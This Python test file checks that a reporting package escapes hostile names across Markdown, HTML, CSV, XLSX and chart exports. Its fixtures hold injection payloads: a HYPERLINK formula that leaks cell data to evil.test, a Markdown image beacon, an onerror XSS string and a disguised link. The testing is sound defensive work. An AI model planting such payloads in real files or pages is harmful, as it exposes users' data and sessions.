"""Escape at the edge, once (issue 13, items 10-11): names from people and files stay text in
Markdown, HTML, CSV and every XLSX sheet."""

from __future__ import annotations

import io
import re

import pytest
from openpyxl import load_workbook

from experiments import demo, escape, metrics, report
from experiments.store import Store

FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
IMAGE = "![x](http://evil.test/p.png)"


@pytest.fixture(scope="module")
def hostile_analysis(tmp_path_factory) -> metrics.ExperimentAnalysis:
    store = Store(tmp_path_factory.mktemp("esc") / "demo.duckdb")
    demo.seed_demo(store, customers=3000, seed=4, replace=True)
    with store.transaction() as cur:
        cur.execute("UPDATE arms SET name = ? WHERE experiment_id = 1 AND kind = 'gift'", [FORMULA])
        cur.execute("UPDATE experiments SET name = ? WHERE experiment_id = 1", [IMAGE])
    result = metrics.analyze_experiment(store, 1)
    store.close()
    return result


@pytest.mark.parametrize(
    "text",
    [IMAGE, "[Log in](http://evil.test)", "<img src=x onerror=alert(1)>", ":red[big]",
     "**bold** _it_ `code`", "# heading", "- item", "1. item", "www.evil.test", "a\n# b", "$x$"],
)  # fmt: skip
def test_markdown_escape_leaves_no_markup(text):
    escaped = escape.markdown(text)
    assert "\n" not in escaped
    assert not re.search(r"(?<![\\])[\[\]`*_<>#$]", escaped)  # each special char escaped
    assert "http://" not in escaped and "www." not in escaped  # no autolinks
    assert re.sub(r"\\(.)", r"\1", escaped) == text.replace("\n", " ")  # reads the same


def test_every_xlsx_sheet_keeps_formulas_as_text(hostile_analysis):
    workbook = load_workbook(io.BytesIO(report.effects_xlsx(hostile_analysis)))
    assert set(workbook.sheetnames) == {"effects", "arms"}
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                    assert cell.value.startswith("'="), cell.value


def test_csv_and_html_exports_keep_names_inert(hostile_analysis):
    import pandas as pd

    table = pd.read_csv(io.BytesIO(report.effects_csv(hostile_analysis)), encoding="utf-8-sig")
    assert "'" + FORMULA in set(table["arm"])
    assert not any(str(v).startswith("=") for v in table.to_numpy().ravel())
    page = report.html_report(hostile_analysis)
    assert "<img" not in page and "evil.test/p.png" in page  # shown, never fetched


LINK = '<a href="http://evil.test/claim">Surprise gift</a>'


@pytest.fixture(scope="module")
def link_analysis(tmp_path_factory) -> metrics.ExperimentAnalysis:
    store = Store(tmp_path_factory.mktemp("esc") / "demo.duckdb")
    demo.seed_demo(store, customers=3000, seed=4, replace=True)
    with store.transaction() as cur:
        cur.execute("UPDATE arms SET name = ? WHERE experiment_id = 1 AND kind = 'gift'", [LINK])
    result = metrics.analyze_experiment(store, 1)
    store.close()
    return result


def test_figures_draw_names_as_text_never_links(link_analysis):
    from experiments import charts

    assert "&lt;a href" in charts.arm_repeat_figure(link_analysis).to_json()  # escape.plotly
    for fig, _ in report.figures(link_analysis):
        drawn = fig.to_json()
        assert "\\u003ca href" not in drawn and "\\u003c\\u002fa" not in drawn
    page = report.html_report(link_analysis)
    assert '<a href="http://evil.test' not in page and "\\u003ca href" not in page
